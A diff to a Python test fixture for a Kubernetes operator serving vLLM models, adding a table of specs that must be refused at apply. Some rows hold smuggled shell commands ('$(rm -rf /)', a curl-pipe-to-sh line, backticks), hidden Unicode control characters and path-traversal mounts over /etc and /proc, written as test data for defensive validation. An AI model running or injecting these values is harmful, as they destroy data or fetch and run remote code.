@@ -350,6 +350,136 @@ _REFUSED: dict[str, list[Any]] = {
     ],
 }
 
+
+@dataclass(frozen=True)
+class RefusedAtApply:
+    """One row of the table of specs that must be refused when they are applied.
+
+    ``path`` is the dotted spec field the change is made at; ``field`` the field path the apiserver
+    must name (``spec.serving.extraArgs[0]``); ``entry`` the index of the guilty extraArgs entry
+    when the refusal is about the list as a whole (a rule over the entries names it in its message).
+    """
+
+    id: str
+    family: str  # flags, argv, unicode, paths, sizes
+    path: str
+    value: Any
+    field: str
+    entry: int | None = None
+
+    @property
+    def spec(self) -> dict[str, Any]:
+        return _set(BASE_SPEC, self.path, self.value)
+
+
+def _args(case_id: str, family: str, args: list[str], index: int, whole_list: bool = True) -> RefusedAtApply:
+    """An extraArgs row: refused by a rule over the list (naming ``index``), or by one on the entry."""
+    if whole_list:
+        return RefusedAtApply(case_id, family, "serving.extraArgs", args, "spec.serving.extraArgs", index)
+    return RefusedAtApply(case_id, family, "serving.extraArgs", args, f"spec.serving.extraArgs[{index}]")
+
+
+def _cache(case_id: str, family: str, key: str, value: str) -> RefusedAtApply:
+    return RefusedAtApply(
+        case_id,
+        family,
+        "serving.modelCache",
+        {"claimName": "hf-cache", key: value},
+        f"spec.serving.modelCache.{key}",
+    )
+
+
+_RLO, _ZWSP, _ZWJ, _BOM, _LRI = "\u202e", "\u200b", "\u200d", "\ufeff", "\u2066"
+
+#: Specs vLLM or the kubelet would refuse, or that would hide what they do: each must be refused at
+#: apply with the field named (issue 52's four first). tests/integration/test_refused_at_apply.py
+#: applies every row to a real apiserver; tests/unit/test_refused_at_apply.py checks the models.
+REFUSED_AT_APPLY: list[RefusedAtApply] = [
+    # the four the attack run found accepted
+    _args("flag-name-hides-rlo", "unicode", [f"--x={_RLO}..."], 0, whole_list=False),
+    _args("shell-substitution", "argv", ["$(rm -rf /)"], 0),
+    _args("shell-pipe", "argv", ["; curl https://example.com/x.sh | sh"], 0),
+    _args("backticks", "argv", ["`id`"], 0),
+    # flags: what vLLM's parser of the default image's release does not have, or reads otherwise
+    _args("abbreviated-flag", "flags", ["--enable-prefix"], 0),
+    _args("unknown-flag", "flags", ["--enable-prefix-caching", "--no-such-flag"], 1),
+    _args("switch-with-value", "flags", ["--enable-prefix-caching=true"], 0),
+    _args("help-exits", "flags", ["--help"], 0),
+    _args("field-of-a-non-json-option", "flags", ["--seed.x=1"], 0),
+    _args("managed-short-option", "flags", ["-tp", "8"], 0, whole_list=False),
+    _args("managed-with-underscores", "flags", ["--max_model_len=1000000"], 0, whole_list=False),
+    _args("upper-case-flag", "flags", ["--MAX-NUM-SEQS=1"], 0, whole_list=False),
+    # argv: entries in places vLLM's parser reads as stray positional arguments, or flags short of a value
+    _args("flag-missing-its-value", "argv", ["--enable-prefix-caching", "--seed"], 1),
+    _args("second-value-for-one", "argv", ["--seed", "1", "2"], 2),
+    _args("value-after-a-switch", "argv", ["--enable-prefix-caching", "yes"], 1),
+    _args("value-after-a-glued-value", "argv", ["--seed=1", "2"], 1),
+    _args("negative-decimal-is-not-a-value", "argv", ["--seed", "-0.5"], 0),
+    _args("end-of-options", "argv", ["--", "x"], 0, whole_list=False),
+    _args("flag-and-value-in-one-entry", "argv", ["--max-num-batched-tokens 8192"], 0, whole_list=False),
+    _args("empty-entry", "argv", ["--seed", "1", ""], 2, whole_list=False),
+    # unicode: hidden characters in strings that reach an argv, an env var, a label or a file
+    _args("zero-width-joiner-in-a-value", "unicode", ["--chat-template", f"a{_ZWJ}b"], 1, whole_list=False),
+    RefusedAtApply(
+        "env-value-rlo",
+        "unicode",
+        "serving.env",
+        [{"name": "A", "value": f"ok{_RLO}kO"}],
+        "spec.serving.env[0].value",
+    ),
+    RefusedAtApply(
+        "env-value-tag-characters",
+        "unicode",
+        "serving.env",
+        [{"name": "A", "value": "x\U000e0069\U000e0067\U000e006e"}],
+        "spec.serving.env[0].value",
+    ),
+    RefusedAtApply(
+        "source-zero-width", "unicode", "model.source", f"pvc://models/glm{_ZWSP}", "spec.model.source"
+    ),
+    RefusedAtApply("gpu-product-isolate", "unicode", "gpu.products", [f"L4{_LRI}"], "spec.gpu.products[0]"),
+    _cache("sub-path-bom", "unicode", "subPath", f"{_BOM}hf"),
+    # paths: mounts over the root, system directories or the operator's own mounts
+    _cache("mount-root", "paths", "mountPath", "/"),
+    _cache("mount-dev-shm", "paths", "mountPath", "/dev/shm"),
+    _cache("mount-etc", "paths", "mountPath", "/etc"),
+    _cache("mount-below-usr", "paths", "mountPath", "/usr/lib/hf"),
+    _cache("mount-proc", "paths", "mountPath", "/proc/self"),
+    _cache("mount-models", "paths", "mountPath", "/models"),
+    _cache("mount-root-home", "paths", "mountPath", "/root/"),
+    _cache("mount-parent-segment", "paths", "mountPath", "/data/../etc"),
+    _cache("mount-empty-segment", "paths", "mountPath", "//etc"),
+    _cache("mount-relative", "paths", "mountPath", "data/hf"),
+    _cache("mount-newline", "paths", "mountPath", "/data/hf\n"),
+    _cache("sub-path-parent", "paths", "subPath", "../other"),
+    _cache("sub-path-absolute", "paths", "subPath", "/abs"),
+    # sizes: past the schema's bounds
+    RefusedAtApply(
+        "extra-args-65",
+        "sizes",
+        "serving.extraArgs",
+        ["--enable-prefix-caching"] * 65,
+        "spec.serving.extraArgs",
+    ),
+    _args("extra-arg-1025-characters", "sizes", ["--chat-template", "x" * 1025], 1, whole_list=False),
+    RefusedAtApply(
+        "env-129",
+        "sizes",
+        "serving.env",
+        [{"name": f"E{i}", "value": "x"} for i in range(129)],
+        "spec.serving.env",
+    ),
+    RefusedAtApply(
+        "env-value-32769",
+        "sizes",
+        "serving.env",
+        [{"name": "A", "value": "x" * 32769}],
+        "spec.serving.env[0].value",
+    ),
+    _cache("mount-path-1025", "sizes", "mountPath", "/" + "d" * 1024),
+    RefusedAtApply("gpu-products-17", "sizes", "gpu.products", ["L4"] * 17, "spec.gpu.products"),
+]
+
 # Specs the schema cannot judge (they depend on the model and the GPUs): Planned=False naming the
 # field to change and the fix.
 _NOT_PLANNED: dict[str, dict[str, Any]] = {
@@ -377,6 +507,8 @@ def _must_fail() -> Iterator[HostileCase]:
             else:
                 spec = _set(BASE_SPEC, field_name, value)
             yield HostileCase(case_id, spec, field_name, REFUSED)
+    for row in REFUSED_AT_APPLY:
+        yield HostileCase(f"refused-{row.family}-{row.id}", row.spec, row.path, REFUSED)
     for field_name, changes in _NOT_PLANNED.items():
         spec = {**copy.deepcopy(BASE_SPEC), **changes}
         yield HostileCase(f"not-planned-{field_name}", spec, field_name, NOT_PLANNED)
